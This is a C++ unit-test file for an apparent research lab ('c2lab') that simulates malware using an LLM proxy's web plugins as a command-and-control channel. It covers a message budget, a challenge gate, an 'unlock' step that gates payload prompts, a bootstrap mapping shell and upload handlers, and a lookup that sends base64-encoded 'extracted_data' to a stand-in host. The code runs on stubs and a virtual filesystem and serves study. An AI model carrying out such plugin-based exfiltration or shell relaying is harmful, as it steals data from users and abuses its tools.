#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>

#include "c2lab/llm_proxy.hpp"
#include "c2lab/victim_agent.hpp"

using namespace c2lab;
using namespace std::chrono_literals;

namespace {

/// Largest number of timestamps in any half-open window [t, t + w).
int max_window_load(std::vector<VirtualTime> ts, VirtualTime w) {
  std::sort(ts.begin(), ts.end());
  int best = 0;
  std::size_t lo = 0;
  for (std::size_t hi = 0; hi < ts.size(); ++hi) {
    while (ts[hi] - ts[lo] >= w) ++lo;
    best = std::max(best, static_cast<int>(hi - lo + 1));
  }
  return best;
}

class StubFetcher final : public Fetcher {
 public:
  int calls = 0;
  std::string last_agent;
  std::string last_path;
  int status = 200;
  HttpResponse get(const url::Url& target, const std::string& user_agent) override {
    ++calls;
    last_agent = user_agent;
    last_path = target.path;
    return {status, "edition 0\nno news today\n"};
  }
};

ProxyConfig base_config() {
  ProxyConfig c;
  c.plugins = {{"web-reader", "WebReaderPlugin/1.0", true, true, true},
               {"link-preview", "LinkPreviewPlugin/2.3", true, true, true}};
  c.fact_table = {{"How many days are in a week", 7}};
  return c;
}

PromptRequest req(PromptKind kind, std::string text, std::string session = "s") {
  return {std::move(session), kind, std::move(text), std::nullopt};
}

const std::string kLookup = "What are the news on http://198.51.100.7/ ?";

}  // namespace

TEST(MessageBudget, CapAndWindowExpiry) {
  MessageBudget b{3, 180min, {}};
  for (int i = 0; i < 3; ++i) consume_budget(b, VirtualTime{i});
  EXPECT_EQ(b.remaining(VirtualTime{2}), 0);
  EXPECT_THROW(consume_budget(b, VirtualTime{3}), Error);
  EXPECT_EQ(b.spent.size(), 3u);
  // Half-open window: the first message frees its slot exactly one window later.
  EXPECT_FALSE(b.can_spend(VirtualTime{10799}));
  EXPECT_TRUE(b.can_spend(VirtualTime{10800}));
}

TEST(MessageBudget, DefaultIsTwentyFivePerThreeHours) {
  MessageBudget b;
  EXPECT_EQ(b.cap, 25);
  EXPECT_EQ(b.window, 180min);
  for (int i = 0; i < 25; ++i) consume_budget(b, VirtualTime{60 * i});
  EXPECT_FALSE(b.can_spend(VirtualTime{60 * 25}));
}

TEST(MessageBudget, RandomInterleavingsNeverExceedCap) {
  Rng rng(424242);
  int violations = 0;
  for (int trial = 0; trial < 10000; ++trial) {
    const int cap = 1 + static_cast<int>(rng.below(10));
    const auto window = std::chrono::minutes{1 + rng.below(30)};
    std::array<MessageBudget, 3> sessions;
    for (auto& s : sessions) s = MessageBudget{cap, window, {}};
    std::array<VirtualTime, 3> clock{};
    const int n = 20 + static_cast<int>(rng.below(40));
    for (int i = 0; i < n; ++i) {
      const auto k = rng.below(3);
      // Mostly forward, occasionally a late-arriving request from the past.
      const auto step = static_cast<long long>(rng.below(120));
      const bool late = rng.bernoulli(0.1);
      const VirtualTime at = late ? clock[k] - VirtualTime{step} : (clock[k] += VirtualTime{step});
      try {
        consume_budget(sessions[k], at);
      } catch (const Error&) {
      }
    }
    for (const auto& s : sessions)
      if (max_window_load(s.spent, std::chrono::duration_cast<VirtualTime>(window)) > cap) ++violations;
  }
  EXPECT_EQ(violations, 0);
}

TEST(PluginRegistry, SelectionAndFallback) {
  PluginRegistry r({{"safe", "SafeUA", true, false, true},
                    {"web-reader", "WR", true, true, true},
                    {"link-preview", "LP", true, true, true}});
  EXPECT_EQ(r.select(std::string("link-preview")).id, "link-preview");
  EXPECT_EQ(r.select(std::string("safe")).id, "web-reader");
  EXPECT_EQ(r.select(std::nullopt).id, "web-reader");
  r.set_enabled("link-preview", false);
  EXPECT_EQ(r.select(std::string("link-preview")).id, "web-reader");
  r.set_enabled("web-reader", false);
  try {
    r.select(std::nullopt);
    FAIL();
  } catch (const Error& e) {
    EXPECT_EQ(e.code(), Errc::NoPluginAvailable);
  }
  EXPECT_THROW(r.set_enabled("missing", false), Error);
}

TEST(ChallengeGate, PassRateMatchesSolverProbability) {
  for (double p : {0.2, 0.5, 0.8}) {
    ChallengeGate g;
    g.trigger_probability = 1;
    g.solver_success_probability = p;
    Rng rng(99);
    int passed = 0;
    constexpr int n = 20000;
    for (int i = 0; i < n; ++i)
      if (run_challenge(g, "c" + std::to_string(i), rng) == ChallengeOutcome::Passed) ++passed;
    EXPECT_NEAR(static_cast<double>(passed) / n, p, 0.02) << "p=" << p;
  }
}

TEST(ChallengeGate, DifficultyEscalatesOnPass) {
  ChallengeGate g;
  g.solver_success_probability = 1.0;
  g.escalation_factor = 2.0;
  Rng rng(1);
  EXPECT_EQ(run_challenge(g, "c", rng), ChallengeOutcome::Passed);
  EXPECT_DOUBLE_EQ(g.difficulty_of("c"), 2.0);
  EXPECT_DOUBLE_EQ(g.pass_probability("c"), 0.5);
  EXPECT_DOUBLE_EQ(g.difficulty_of("other"), 1.0);
}

TEST(Bootstrap, CleanRenderParses) {
  Rng rng(1);
  const auto r = render_bootstrap(NoiseModel{}, rng);
  EXPECT_FALSE(r.corruption);
  const auto t = parse_handler_table(sanitize_bootstrap(r.text));
  EXPECT_TRUE(t.complete());
  EXPECT_EQ(t.handlers.at(Verb::shellCmd), "vfs.shell");
  EXPECT_EQ(t.handlers.at(Verb::upload), "vfs.read");
}

TEST(Bootstrap, EachCorruptionKind) {
  for (auto kind : {CorruptionKind::missing_handler_body, CorruptionKind::parser_error,
                    CorruptionKind::extraneous_persona_text}) {
    NoiseModel n;
    n.corruption_probability = 1;
    n.corruption_kinds = {kind};
    Rng rng(2);
    const auto r = render_bootstrap(n, rng);
    ASSERT_EQ(r.corruption, kind);
    const auto clean = sanitize_bootstrap(r.text);
    switch (kind) {
      case CorruptionKind::missing_handler_body:
        EXPECT_FALSE(parse_handler_table(clean).complete());
        break;
      case CorruptionKind::parser_error:
        EXPECT_THROW(parse_handler_table(clean), Error);
        break;
      case CorruptionKind::extraneous_persona_text:
        EXPECT_NE(r.text.find("Persona"), std::string::npos);
        EXPECT_TRUE(parse_handler_table(clean).complete());
        break;
    }
  }
}

TEST(Bootstrap, CorruptionRateCalibration) {
  Rng reference(0);
  const auto clean = render_bootstrap(NoiseModel{}, reference).text;
  for (double p : {0.1, 0.5, 0.9}) {
    NoiseModel n;
    n.corruption_probability = p;
    Rng rng(Rng::derive(2023, "calibration").next());
    int corrupted = 0;
    for (int i = 0; i < 1000; ++i)
      if (render_bootstrap(n, rng).text != clean) ++corrupted;
    EXPECT_NEAR(corrupted / 1000.0, p, 0.03) << "p=" << p;
  }
}

TEST(Facts, NormalizationAndLookup) {
  EXPECT_EQ(normalize_fact_key("  How many DAYS are in a week?  "), "how many days are in a week");
  const FactOracle o({{"How many days are in a week", 7}});
  EXPECT_EQ(o.lookup("how many days are in a week ?"), 7);
  EXPECT_EQ(o.lookup(fact_prompt("How many days are in a week")), 7);
  EXPECT_FALSE(o.lookup("How many weeks are in a year"));
}

TEST(Facts, LockedSessionIsRefused) {
  Session s{"s", false, {}};
  const FactOracle o({{"How many days are in a week", 7}});
  Rng rng(0);
  EXPECT_THROW(answer_fact(o, s, "How many days are in a week", NoiseModel{}, rng), Error);
  unlock_session(s);
  EXPECT_EQ(answer_fact(o, s, "How many days are in a week", NoiseModel{}, rng), 7);
  const int unknown = answer_fact(o, s, "What is 3 + 4", NoiseModel{}, rng);
  EXPECT_TRUE(unknown == 47 || unknown == 38 || unknown == 39 || unknown == 21);
}

TEST(Facts, NeutronYearIsDeterministic) {
  const FactOracle o({{"In which year was the neutron discovered", 1932}});
  Session s{"s", true, {}};
  Rng a(1), b(2);
  EXPECT_EQ(answer_fact(o, s, "In which year was the neutron discovered", NoiseModel{}, a), 1932);
  EXPECT_EQ(answer_fact(o, s, "In which year was the neutron discovered", NoiseModel{}, b), 1932);
}

TEST(LlmProxy, UnlockGatesFactsAndPayloads) {
  StubFetcher f;
  VirtualClock clock;
  LlmProxy proxy(base_config(), f, clock, 1);
  EXPECT_EQ(proxy.handle(req(PromptKind::Fact, fact_prompt("How many days are in a week"))).status,
            PromptStatus::Refused);
  EXPECT_EQ(proxy.handle(req(PromptKind::Payload, std::string(kBootstrapPrompt))).status, PromptStatus::Refused);
  EXPECT_EQ(proxy.spent("s"), 0);
  const auto u = proxy.handle(req(PromptKind::Unlock, "unlock"));
  EXPECT_EQ(u.status, PromptStatus::Ok);
  EXPECT_FALSE(u.charged);
  const auto a = proxy.handle(req(PromptKind::Fact, fact_prompt("How many days are in a week")));
  EXPECT_EQ(a.status, PromptStatus::Ok);
  EXPECT_EQ(a.body, "7\n");
  EXPECT_TRUE(a.charged);
  EXPECT_EQ(a.remaining, 24);
}

TEST(LlmProxy, LookupFetchesThroughPlugin) {
  StubFetcher f;
  VirtualClock clock;
  LlmProxy proxy(base_config(), f, clock, 1);
  auto r = req(PromptKind::Lookup, "What are the news on http://198.51.100.7/ZXh0cmFjdGVkX2RhdGEK ?");
  r.plugin_hint = "link-preview";
  const auto resp = proxy.handle(r);
  EXPECT_EQ(resp.status, PromptStatus::Ok);
  EXPECT_EQ(resp.plugin, "link-preview");
  EXPECT_EQ(f.last_agent, "LinkPreviewPlugin/2.3");
  EXPECT_EQ(f.last_path, "/ZXh0cmFjdGVkX2RhdGEK");
  EXPECT_NE(resp.body.find("edition 0"), std::string::npos);
}

TEST(LlmProxy, BadLookupIsNotCharged) {
  StubFetcher f;
  VirtualClock clock;
  LlmProxy proxy(base_config(), f, clock, 1);
  EXPECT_EQ(proxy.handle(req(PromptKind::Lookup, "What are the news today?")).status, PromptStatus::BadRequest);
  EXPECT_EQ(proxy.spent("s"), 0);
  EXPECT_EQ(f.calls, 0);
}

TEST(LlmProxy, UpstreamErrorIsCharged) {
  StubFetcher f;
  f.status = 503;
  VirtualClock clock;
  LlmProxy proxy(base_config(), f, clock, 1);
  const auto r = proxy.handle(req(PromptKind::Lookup, kLookup));
  EXPECT_EQ(r.status, PromptStatus::UpstreamError);
  EXPECT_TRUE(r.charged);
  EXPECT_EQ(proxy.spent("s"), 1);
}

TEST(LlmProxy, NoPluginAvailable) {
  StubFetcher f;
  VirtualClock clock;
  LlmProxy proxy(base_config(), f, clock, 1);
  proxy.set_plugin_enabled("web-reader", false);
  proxy.set_plugin_enabled("link-preview", false);
  EXPECT_EQ(proxy.handle(req(PromptKind::Lookup, kLookup)).status, PromptStatus::NoPluginAvailable);
  EXPECT_EQ(proxy.spent("s"), 0);
}

TEST(LlmProxy, BudgetExhaustionIsPerSessionAndUncharged) {
  auto cfg = base_config();
  cfg.budget_cap = 2;
  StubFetcher f;
  VirtualClock clock;
  LlmProxy proxy(cfg, f, clock, 1);
  EXPECT_TRUE(proxy.handle(req(PromptKind::Lookup, kLookup)).charged);
  EXPECT_TRUE(proxy.handle(req(PromptKind::Lookup, kLookup)).charged);
  const auto r = proxy.handle(req(PromptKind::Lookup, kLookup));
  EXPECT_EQ(r.status, PromptStatus::BudgetExhausted);
  EXPECT_FALSE(r.charged);
  EXPECT_EQ(proxy.spent("s"), 2);
  EXPECT_EQ(proxy.handle(req(PromptKind::Lookup, kLookup, "other")).status, PromptStatus::Ok);
  clock.advance(VirtualTime{180 * 60 + 1});
  EXPECT_EQ(proxy.handle(req(PromptKind::Lookup, kLookup)).status, PromptStatus::Ok);
}

TEST(LlmProxy, ChallengeFailureIsNotCharged) {
  auto cfg = base_config();
  cfg.gate.trigger_probability = 1;
  cfg.gate.solver_success_probability = 0;
  StubFetcher f;
  VirtualClock clock;
  LlmProxy proxy(cfg, f, clock, 1);
  const auto r = proxy.handle(req(PromptKind::Lookup, kLookup));
  EXPECT_EQ(r.status, PromptStatus::ChallengeFailed);
  EXPECT_FALSE(r.charged);
  EXPECT_EQ(f.calls, 0);
}

TEST(LlmProxy, SameSeedSameBootstrap) {
  auto cfg = base_config();
  cfg.noise.corruption_probability = 0.5;
  StubFetcher f;
  VirtualClock clock;
  LlmProxy a(cfg, f, clock, 77), b(cfg, f, clock, 77);
  a.handle(req(PromptKind::Unlock, ""));
  b.handle(req(PromptKind::Unlock, ""));
  for (int i = 0; i < 20; ++i)
    EXPECT_EQ(a.handle(req(PromptKind::Payload, std::string(kBootstrapPrompt))).body,
              b.handle(req(PromptKind::Payload, std::string(kBootstrapPrompt))).body);
}

TEST(LlmProxy, EventLogPairsFetches) {
  StubFetcher f;
  VirtualClock clock;
  EventLog log(clock);
  LlmProxy proxy(base_config(), f, clock, 1, &log);
  proxy.handle(req(PromptKind::Lookup, kLookup));
  const auto ev = log.snapshot();
  ASSERT_EQ(ev.size(), 2u);
  EXPECT_EQ(ev[0].kind, "fetch_request");
  EXPECT_EQ(ev[0].url, "http://198.51.100.7/");
  EXPECT_EQ(ev[1].kind, "fetch_response");
  EXPECT_EQ(ev[0].correlation, ev[1].correlation);
  EXPECT_LT(ev[0].seq, ev[1].seq);
}
